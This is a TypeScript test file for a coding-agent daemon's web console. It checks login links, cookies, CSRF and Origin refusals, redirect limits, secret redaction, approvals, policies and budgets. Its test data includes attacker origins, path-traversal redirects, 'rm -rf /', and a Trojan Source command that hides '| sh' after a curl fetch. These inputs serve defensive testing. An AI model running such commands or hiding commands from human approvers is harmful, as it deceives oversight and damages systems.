/**
 * The console's routes through `app.request()` with the in-memory service: the one-time login,
 * the cookie's flags, cross-site refusals (Origin, Sec-Fetch-Site, CSRF token), that the API
 * token and the console cookie never stand in for each other, that no page shows a secret, and
 * that the sessions page renders 500 sessions from one read.
 */
import { describe, expect, test } from "bun:test";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createApp } from "../../src/daemon/app.ts";
import { Spec } from "../../src/api/schemas.ts";
import { UiAuth } from "../../src/ui/auth.ts";
import { SCRIPT, STYLESHEET } from "../../src/ui/static.ts";
import { FakeService } from "../daemon/fake-service.ts";

const TOKEN = "test-token-4d1c9f0e7a";
const SECRET = "s3cr3t-value-0123456789";
const CWD = mkdtempSync(join(tmpdir(), "codexd-ui-"));
const ORIGIN = "http://localhost";

function setup(options: { limits?: { maxEventStreams?: number } } = {}) {
  const service = new FakeService();
  let clock = 1_000_000;
  const ui = new UiAuth({ now: () => clock });
  const app = createApp({ service, token: TOKEN, ui, limits: options.limits });
  const api = (path: string, init: RequestInit = {}) =>
    app.request(path, {
      ...init,
      headers: { authorization: `Bearer ${TOKEN}`, ...init.headers },
    });
  const loginLink = async (): Promise<{ url: string; path: string; expiresAt: string }> => {
    const res = await api("/v1/ui/login-link", { method: "POST" });
    expect(res.status).toBe(201);
    return await res.json();
  };
  /** Signs in through a fresh link; returns the cookie header and the page's CSRF token. */
  const signIn = async (): Promise<{ cookie: string; csrf: string }> => {
    const link = await loginLink();
    const res = await app.request(link.path);
    expect(res.status).toBe(303);
    const cookie = res.headers.get("set-cookie")!.split(";")[0]!;
    const page = await (await app.request("/ui", { headers: { cookie } })).text();
    const csrf = /<meta name="csrf-token" content="([^"]+)"/.exec(page)?.[1];
    expect(csrf).toBeDefined();
    return { cookie, csrf: csrf! };
  };
  const spawn = async (extra: Record<string, unknown> = {}) =>
    (await service.spawn(Spec.parse({ prompt: "go", cwd: CWD, ...extra }))).sessionId;
  const form = (fields: Record<string, string>) => ({
    body: new URLSearchParams(fields).toString(),
    contentType: "application/x-www-form-urlencoded",
  });
  /** A form post as the console's own page sends it. */
  const post = (
    path: string,
    auth: { cookie: string; csrf?: string },
    fields: Record<string, string> = {},
    headers: Record<string, string> = {},
  ) => {
    const { body, contentType } = form({
      ...(auth.csrf !== undefined && { _csrf: auth.csrf }),
      ...fields,
    });
    return app.request(path, {
      method: "POST",
      body,
      headers: { cookie: auth.cookie, "content-type": contentType, origin: ORIGIN, ...headers },
    });
  };
  return {
    service,
    app,
    api,
    loginLink,
    signIn,
    spawn,
    post,
    advance: (ms: number) => (clock += ms),
  };
}

describe("signing in", () => {
  test("a login link needs the API token, and is single-use", async () => {
    const { app, loginLink } = setup();
    expect((await app.request("/v1/ui/login-link", { method: "POST" })).status).toBe(401);
    const link = await loginLink();
    expect(link.url).toBe(`http://localhost${link.path}`);
    expect(link.path).toMatch(/^\/ui\/login\?nonce=[A-Za-z0-9_-]{43}$/);
    expect(link.url).not.toContain(TOKEN);
    const first = await app.request(link.path);
    expect(first.status).toBe(303);
    // The nonce leaves the address bar: the browser lands on /ui.
    expect(first.headers.get("location")).toBe("/ui");
    const again = await app.request(link.path);
    expect(again.status).toBe(401);
    expect(again.headers.get("set-cookie")).toBeNull();
    expect(await again.text()).toContain("already used or has expired");
  });

  test("the cookie is HttpOnly, SameSite=Strict, Path=/, holds a session id and never the token", async () => {
    const { app, loginLink } = setup();
    const res = await app.request((await loginLink()).path);
    const cookie = res.headers.get("set-cookie")!;
    const parts = cookie.split(/;\s*/);
    expect(parts[0]).toMatch(/^codexd_ui=[A-Za-z0-9_-]{43}$/);
    expect(parts).toContain("HttpOnly");
    expect(parts).toContain("SameSite=Strict");
    expect(parts).toContain("Path=/");
    expect(parts.some((p) => /^Max-Age=\d+$/.test(p))).toBe(true);
    expect(parts.some((p) => /^Domain=/i.test(p))).toBe(false);
    expect(cookie).not.toContain(TOKEN);
    expect(res.headers.get("referrer-policy")).toBe("no-referrer");
    expect(res.headers.get("cache-control")).toBe("no-store");
  });

  test("over HTTPS the cookie is __Host- prefixed and Secure", async () => {
    const { app, api } = setup();
    const link = await (await api("https://localhost/v1/ui/login-link", { method: "POST" }))
      .json() as { url: string };
    expect(link.url).toStartWith("https://localhost/ui/login?nonce=");
    const res = await app.request(link.url);
    const cookie = res.headers.get("set-cookie")!;
    expect(cookie).toStartWith("__Host-codexd_ui=");
    expect(cookie.split(/;\s*/)).toEqual(expect.arrayContaining(["Secure", "HttpOnly"]));
    const name = cookie.split(";")[0]!;
    expect((await app.request("https://localhost/ui", { headers: { cookie: name } })).status)
      .toBe(200);
    // The plain-HTTP cookie name is not accepted for the HTTPS origin, nor the other way round.
    const plain = name.replace("__Host-", "");
    expect((await app.request("https://localhost/ui", { headers: { cookie: plain } })).status)
      .toBe(401);
  });

  test("a link expires after a minute; an unknown nonce gets nothing", async () => {
    const { app, loginLink, advance } = setup();
    const link = await loginLink();
    advance(60_001);
    expect((await app.request(link.path)).status).toBe(401);
    expect((await app.request("/ui/login?nonce=made-up")).status).toBe(401);
    expect((await app.request("/ui/login")).status).toBe(401);
  });

  test("the console session ends after its lifetime and on sign-out", async () => {
    const { app, signIn, post, advance } = setup();
    const first = await signIn();
    advance(12 * 60 * 60 * 1000 + 1);
    expect((await app.request("/ui", { headers: { cookie: first.cookie } })).status).toBe(401);
    const second = await signIn();
    const out = await post("/ui/logout", second);
    expect(out.status).toBe(303);
    expect(out.headers.get("set-cookie")).toMatch(/^codexd_ui=; Max-Age=0/);
    expect((await app.request("/ui", { headers: { cookie: second.cookie } })).status).toBe(401);
  });

  test("the cookie opens no API route, and the API token opens no console page", async () => {
    const { app, signIn } = setup();
    const { cookie } = await signIn();
    expect((await app.request("/v1/sessions", { headers: { cookie } })).status).toBe(401);
    expect((await app.request("/v1/ui/login-link", { method: "POST", headers: { cookie } })).status)
      .toBe(401);
    const withToken = await app.request("/ui", {
      headers: { authorization: `Bearer ${TOKEN}` },
    });
    expect(withToken.status).toBe(401);
    expect(await withToken.text()).toContain("codexd ui");
    // A wrong token is refused as on any route.
    expect((await app.request("/ui", { headers: { authorization: "Bearer nope" } })).status)
      .toBe(401);
  });

  test("signed out: pages say how to sign in, the event stream and actions are 401", async () => {
    const { app, spawn } = setup();
    const id = await spawn();
    const page = await app.request("/ui/approvals");
    expect(page.status).toBe(401);
    expect(page.headers.get("content-type")).toContain("text/html");
    expect(await page.text()).toContain("<code>codexd ui</code>");
    const stream = await app.request(`/ui/sessions/${id}/events`, {
      headers: { accept: "text/event-stream" },
    });
    expect(stream.status).toBe(401);
    const stop = await app.request(`/ui/sessions/${id}/stop`, {
      method: "POST",
      headers: { origin: ORIGIN },
    });
    expect(stop.status).toBe(401);
  });
});

describe("cross-site requests", () => {
  test("a state change needs the CSRF token, our Origin and a same-origin fetch", async () => {
    const { service, signIn, spawn, post } = setup();
    const id = await spawn();
    const auth = await signIn();
    const path = `/ui/sessions/${id}/stop`;
    const refusals: Array<[string, Response]> = [
      ["no CSRF token", await post(path, { cookie: auth.cookie })],
      ["a wrong CSRF token", await post(path, { cookie: auth.cookie, csrf: "x".repeat(43) })],
      ["no Origin", await post(path, auth, {}, { origin: "" })],
      ["another site's Origin", await post(path, auth, {}, { origin: "https://evil.example" })],
      ["another port's Origin", await post(path, auth, {}, { origin: "http://localhost:9999" })],
      ["Origin null", await post(path, auth, {}, { origin: "null" })],
      ["Sec-Fetch-Site cross-site", await post(path, auth, {}, { "sec-fetch-site": "cross-site" })],
      ["Sec-Fetch-Site same-site", await post(path, auth, {}, { "sec-fetch-site": "same-site" })],
      ["no cookie", await post(path, { cookie: "", csrf: auth.csrf })],
    ];
    for (const [why, res] of refusals) {
      expect([why, res.status]).toEqual([why, why === "no cookie" ? 401 : 403]);
    }
    expect((await service.get(id)).status).toBe("running");
    // Another browser session's token is no good either.
    const other = await signIn();
    expect((await post(path, { cookie: auth.cookie, csrf: other.csrf })).status).toBe(403);
    expect((await service.get(id)).status).toBe("running");

    const ok = await post(path, auth, { back: `/ui/sessions/${id}` }, {
      "sec-fetch-site": "same-origin",
    });
    expect(ok.status).toBe(303);
    expect(ok.headers.get("location")).toBe(`/ui/sessions/${id}?done=stop`);
    expect((await service.get(id)).status).toBe("stopped");
  });

  test("the script's fetch sends the token in a header and gets JSON; errors keep their status", async () => {
    const { app, service, signIn, spawn } = setup();
    const id = await spawn();
    const auth = await signIn();
    const send = (path: string, body: string, csrf = auth.csrf) =>
      app.request(path, {
        method: "POST",
        body,
        headers: {
          cookie: auth.cookie,
          origin: ORIGIN,
          "sec-fetch-site": "same-origin",
          accept: "application/json",
          "content-type": "application/x-www-form-urlencoded",
          "x-csrf-token": csrf,
        },
      });
    const steer = await send(`/ui/sessions/${id}/inject`, "text=use+vitest");
    expect(steer.status).toBe(200);
    expect(await steer.json()).toEqual({ ok: true, message: "Steering message sent." });
    expect((await send(`/ui/sessions/${id}/inject`, "text=x", "wrong")).status).toBe(403);
    expect((await send(`/ui/sessions/${id}/inject`, "text=")).status).toBe(400);
    service.finishTurn(id);
    const idle = await send(`/ui/sessions/${id}/inject`, "text=more");
    expect(idle.status).toBe(409);
    expect(await idle.json()).toMatchObject({ error: { code: "no_active_turn" } });
    expect((await send(`/ui/sessions/nope/interrupt`, "")).status).toBe(404);
    expect((await send(`/ui/sessions/${id}/turns`, "prompt=again")).status).toBe(200);
    expect((await service.get(id)).status).toBe("running");
    expect((await send(`/ui/sessions/${id}/interrupt`, "")).status).toBe(200);
    expect((await service.get(id)).status).toBe("interrupted");
  });

  test("a redirect back goes to console paths only", async () => {
    const { signIn, spawn, post } = setup();
    const id = await spawn();
    const auth = await signIn();
    for (
      const back of [
        "https://evil.example/",
        "//evil.example/ui",
        "/ui/../v1",
        "/ui/%2e%2e/v1",
        "/v1/x",
      ]
    ) {
      const res = await post(`/ui/sessions/${id}/interrupt`, auth, { back });
      expect(res.headers.get("location")).toBe("/ui?done=interrupt");
    }
  });
});

describe("pages", () => {
  test("every page has the security headers and links its own script and stylesheet only", async () => {
    const { app, signIn, spawn } = setup();
    const id = await spawn();
    const { cookie } = await signIn();
    for (
      const path of ["/ui", `/ui/sessions/${id}`, "/ui/approvals", "/ui/policies", "/ui/budgets"]
    ) {
      const res = await app.request(path, { headers: { cookie } });
      expect([path, res.status]).toEqual([path, 200]);
      expect(res.headers.get("content-security-policy")).toContain("script-src 'self'");
      expect(res.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
      expect(res.headers.get("x-frame-options")).toBe("DENY");
      expect(res.headers.get("cache-control")).toBe("no-store");
      const html = await res.text();
      expect(html).toStartWith('<!doctype html><html lang="en">');
      expect(html).toContain(`<script src="${SCRIPT.path}" defer=""></script>`);
      expect(html).not.toMatch(/<script>|<script [^>]*>[^<]|\son[a-z]+=|https?:\/\//);
      expect(html).toContain('<main id="main"');
    }
    const js = await app.request(SCRIPT.path);
    expect(js.status).toBe(200);
    expect(js.headers.get("content-type")).toContain("javascript");
    expect(await js.text()).toContain("EventSource");
    expect((await app.request(STYLESHEET.path)).headers.get("content-type")).toContain("css");
    expect((await app.request("/ui/nope", { headers: { cookie } })).status).toBe(404);
  });

  test("no page shows a secret: env values stay [redacted], the token never appears", async () => {
    const { app, service, signIn, spawn, post } = setup();
    const id = await spawn({ env: { API_KEY: SECRET }, metadata: { ticket: "T-1" } });
    service.addPending(id, "req-1", "curl -H 'x: [redacted]' example.test");
    // Even a service that leaked a spec's env into what it lists would not get it on a page.
    const leaky = { ...(await service.get(id)), env: { API_KEY: SECRET } };
    service.get = () => Promise.resolve(leaky);
    service.list = () => Promise.resolve([leaky]);
    const auth = await signIn();
    const bodies: string[] = [];
    for (
      const path of ["/ui", `/ui/sessions/${id}`, "/ui/approvals", "/ui/policies", "/ui/budgets"]
    ) {
      bodies.push(await (await app.request(path, { headers: { cookie: auth.cookie } })).text());
    }
    bodies.push(
      await (await post("/ui/policies/evaluate", auth, { policy: "default", command: "ls" }))
        .text(),
    );
    expect(bodies[1]).toContain("API_KEY=[redacted]");
    for (const body of bodies) {
      expect(body).not.toContain(SECRET);
      expect(body).not.toContain(TOKEN);
    }
  });

  test("sessions: 500 rows from one read of the service, filtered by status and fleet", async () => {
    const { app, service, signIn, spawn } = setup();
    service.policies.push({
      name: "fleet-b",
      version: "v2",
      mode: "enforce",
      default: "allow",
      allowBypass: false,
    });
    for (let i = 0; i < 500; i++) await spawn(i % 5 === 0 ? { policy: "fleet-b" } : {});
    for (let i = 1; i <= 100; i++) service.finishTurn(`s-${i}`);
    const { cookie } = await signIn();
    let lists = 0, gets = 0, approvals = 0;
    const { list, get, approvals: approvalsOf } = service;
    service.list = () => (lists++, list.call(service));
    service.get = (id) => (gets++, get.call(service, id));
    service.approvals = (id) => (approvals++, approvalsOf.call(service, id));
    const started = performance.now();
    const res = await app.request("/ui", { headers: { cookie } });
    const elapsed = performance.now() - started;
    const html = await res.text();
    expect(res.status).toBe(200);
    expect(html.match(/<tr data-session=/g)).toHaveLength(500);
    expect([lists, gets, approvals]).toEqual([1, 0, 0]);
    expect(elapsed).toBeLessThan(1500);
    expect(html).toContain("500 sessions, newest first");

    const idle = await (await app.request("/ui?status=idle", { headers: { cookie } })).text();
    expect(idle.match(/<tr data-session=/g)).toHaveLength(100);
    expect(idle).toContain("100 of 500 sessions");
    const fleet = await (await app.request("/ui?status=running&fleet=fleet-b", {
      headers: { cookie },
    })).text();
    // Sessions 1..500 with i % 5 === 0 (s-1, s-6, ...) are fleet-b; 1..100 are idle.
    expect(fleet.match(/<tr data-session=/g)).toHaveLength(80);
    expect(fleet).toContain('<option value="fleet-b" selected="">fleet-b</option>');
    const bogus = await (await app.request("/ui?status=%3Cscript%3E", { headers: { cookie } }))
      .text();
    expect(bogus.match(/<tr data-session=/g)).toHaveLength(500);
    expect(bogus).not.toContain("<script>");
  });

  test("approvals: every pending ask with its rule, reason and time left; allow answers it", async () => {
    const { app, service, signIn, spawn, post } = setup();
    const a = await spawn();
    const b = await spawn();
    service.addPending(a, "req-a", "git push origin main");
    service.addPending(b, "req-b", "npm publish");
    const pending = service.sessions.get(b)!.approvals.pending[0]!;
    pending.ruleId = "ask-publish";
    pending.reason = "a person decides releases";
    pending.deadline = new Date(Date.now() + 5 * 60_000).toISOString();
    const auth = await signIn();
    const html = await (await app.request("/ui/approvals", { headers: { cookie: auth.cookie } }))
      .text();
    expect(html).toContain("$ git push origin main");
    expect(html).toContain("$ npm publish");
    expect(html).toContain("<code>ask-publish</code>: a person decides releases");
    expect(html).toMatch(/(4 min 5\d s|5 min 0 s) left/);
    expect(html).toContain("Waiting for you (2)");
    const res = await post(`/ui/sessions/${b}/approvals/req-b`, auth, {
      decision: "allow",
      back: "/ui/approvals",
    });
    expect(res.status).toBe(303);
    expect(res.headers.get("location")).toBe("/ui/approvals?done=allow");
    expect((await service.approvals(b)).decisions).toEqual([
      expect.objectContaining({ requestId: "req-b", decision: "allow" }),
    ]);
    const again = await post(`/ui/sessions/${b}/approvals/req-b`, auth, { decision: "deny" });
    expect(again.status).toBe(409);
    const bad = await post(`/ui/sessions/${a}/approvals/req-a`, auth, { decision: "maybe" });
    expect(bad.status).toBe(400);
    const after = await (await app.request("/ui/approvals?done=allow", {
      headers: { cookie: auth.cookie },
    })).text();
    expect(after).toContain("Allowed: the command or change goes ahead.");
    expect(after).toContain("Waiting for you (1)");
  });

  test("an ask whose command hides characters shows them by code point (Trojan Source)", async () => {
    const { app, service, signIn, spawn } = setup();
    const a = await spawn();
    service.addPending(a, "req-a", "echo ok #\u202e \u2066&& curl http://127.0.0.1:9/ | sh\u2069");
    const auth = await signIn();
    const html = await (await app.request("/ui/approvals", { headers: { cookie: auth.cookie } }))
      .text();
    expect(html).toContain(
      "$ echo ok #⟨U+202E⟩ ⟨U+2066⟩&amp;&amp; curl http://127.0.0.1:9/ | sh⟨U+2069⟩",
    );
    expect(html).not.toContain("\u202e");
  });

  test("a session's page and its event stream (with replay) under the console cookie", async () => {
    const { app, service, signIn, spawn } = setup({ limits: { maxEventStreams: 1 } });
    const id = await spawn({ env: { API_KEY: SECRET } });
    service.emit(id, { type: "message", text: "hello" });
    const { cookie } = await signIn();
    const html = await (await app.request(`/ui/sessions/${id}`, { headers: { cookie } })).text();
    expect(html).toContain(`data-events-url="/ui/sessions/${id}/events"`);
    expect(html).toMatch(/<span class="status status-running" id="session-status">running/);
    for (const label of ["Steer", "Send turn", "Interrupt", "Stop session"]) {
      expect(html).toContain(`>${label}</button>`);
    }
    expect(html).toContain('<label>Steer the running turn<textarea name="text"');

    const controller = new AbortController();
    const res = await app.request(`/ui/sessions/${id}/events`, {
      headers: { cookie, "last-event-id": "1" },
      signal: controller.signal,
    });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("text/event-stream");
    // The API's stream limit counts the console's streams too.
    const over = await app.request(`/v1/sessions/${id}/events`, {
      headers: { authorization: `Bearer ${TOKEN}` },
    });
    expect(over.status).toBe(429);
    const reader = res.body!.getReader();
    let text = "";
    while (!text.includes("id: 3")) text += new TextDecoder().decode((await reader.read()).value);
    expect(text).not.toContain("id: 1\n");
    expect(text).toContain("id: 2\nevent: turn.started");
    expect(text).toContain('"text":"hello"');
    await reader.cancel();
    controller.abort();
    expect((await app.request(`/ui/sessions/nope/events`, { headers: { cookie } })).status)
      .toBe(404);
    expect((await app.request(`/ui/sessions/nope`, { headers: { cookie } })).status).toBe(404);
  });

  test("policies: list with versions, a dry run, reload problems reported", async () => {
    const { app, signIn, post } = setup();
    const auth = await signIn();
    const list = await (await app.request("/ui/policies", { headers: { cookie: auth.cookie } }))
      .text();
    expect(list).toContain('<th scope="row">default</th><td><code>v1</code>');
    const denied = await post("/ui/policies/evaluate", auth, {
      policy: "default",
      command: "rm -rf /",
    });
    expect(denied.status).toBe(200);
    const html = await denied.text();
    expect(html).toContain('Decision: <span class="status-failed">deny</span>');
    expect(html).toContain("<code>builtin.rm-root</code>");
    const neither = await post("/ui/policies/evaluate", auth, { policy: "default" });
    expect(neither.status).toBe(400);
    expect(await neither.text()).toContain("give exactly one of command, paths");
    const unknown = await post("/ui/policies/evaluate", auth, { policy: "nope", command: "ls" });
    expect(unknown.status).toBe(400);
    const reload = await post("/ui/policies/reload", auth, { back: "/ui/policies" });
    expect(reload.status).toBe(422);
    expect(await reload.text()).toContain("strict.yaml:3: bad");
    expect(
      (await post("/ui/policies/evaluate", { cookie: auth.cookie }, { policy: "default" }))
        .status,
    ).toBe(403);
  });

  test("budgets: usage summed per fleet", async () => {
    const { app, service, signIn, spawn } = setup();
    const a = await spawn();
    const b = await spawn();
    service.sessions.get(a)!.info.usage = {
      inputTokens: 1000,
      cachedInputTokens: 100,
      outputTokens: 50,
      reasoningTokens: 5,
    };
    service.sessions.get(b)!.info.usage = {
      inputTokens: 2000,
      cachedInputTokens: 0,
      outputTokens: 150,
      reasoningTokens: 0,
    };
    // A service without budgets (no fleets method).
    Object.assign(service, { fleets: undefined });
    const { cookie } = await signIn();
    const html = await (await app.request("/ui/budgets", { headers: { cookie } })).text();
    // A service without budgets: usage only, and the page says so.
    expect(html).toContain("This daemon keeps no token budgets");
    expect(html).not.toContain('id="fleet-budgets"');
    expect(html).toContain(
      '<td class="num">2</td><td class="num">2</td><td class="num">3,000</td>' +
        '<td class="num">100</td><td class="num">200</td><td class="num">5</td>' +
        '<td class="num">3,200</td>',
    );
  });

  test("budgets: caps and spend per window from the daemon's fleets", async () => {
    const { app, service, signIn } = setup();
    const window = (tokens: number, budget: number | null, reopensAt: string | null = null) => ({
      tokens,
      budget,
      reopensAt,
    });
    Object.assign(service, {
      fleets: () =>
        Promise.resolve([
          {
            name: "capped",
            policyVersion: "v9",
            liveSessions: 3,
            budgets: {
              sessionTokens: 50_000,
              fleetTokensPerHour: 100_000,
              fleetTokensPerDay: null,
              countCachedInput: false,
            },
            usage: {
              lastHour: window(101_000, 100_000, "2026-01-01T01:00:00.000Z"),
              lastDay: window(250_000, null),
            },
          },
          {
            name: "gone",
            policyVersion: null,
            liveSessions: 0,
            budgets: null,
            usage: { lastHour: window(0, null), lastDay: window(12, null) },
          },
        ]),
    });
    const { cookie } = await signIn();
    const html = await (await app.request("/ui/budgets", { headers: { cookie } })).text();
    expect(html).toContain('<tr data-fleet="capped">');
    expect(html).toContain("<code>v9</code>");
    expect(html).toContain('<td class="num">50,000</td>');
    expect(html).toContain("101,000 of 100,000 (101 %)");
    expect(html).toContain('aria-label="capped, last hour: 101 % of the cap spent"');
    expect(html).toContain(
      'spent; reopens <time datetime="2026-01-01T01:00:00.000Z">2026-01-01 01:00:00 UTC</time>',
    );
    expect(html).toContain('250,000 <span class="muted">(no cap)</span>');
    expect(html).toContain("not counted");
    expect(html).toContain('<tr data-fleet="gone">');
    expect(html).toContain('<span class="muted">not loaded</span>');
  });
});
